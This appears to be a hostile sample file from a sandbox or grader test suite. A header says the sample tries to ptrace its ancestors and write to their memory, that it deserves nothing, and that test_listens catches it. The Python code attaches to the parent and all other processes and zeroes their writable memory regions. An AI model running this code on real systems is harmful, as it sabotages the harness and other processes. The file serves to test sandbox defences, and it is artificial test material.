# Tries: ptrace() of its ancestors, and to write to their memory
# Deserves: nothing
# Caught by: test_listens
# Tiers: A B

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for pid in (os.getppid(), *pids):
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        libc.ptrace(request, pid, None, None)
    with contextlib.suppress(OSError, ValueError):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for line in maps:
                begin, end = (int(each, 16) for each in line.split()[0].split("-"))
                if "rw" in line and end - begin < 1 << 24:
                    memory.seek(begin)
                    memory.write(bytes(end - begin))
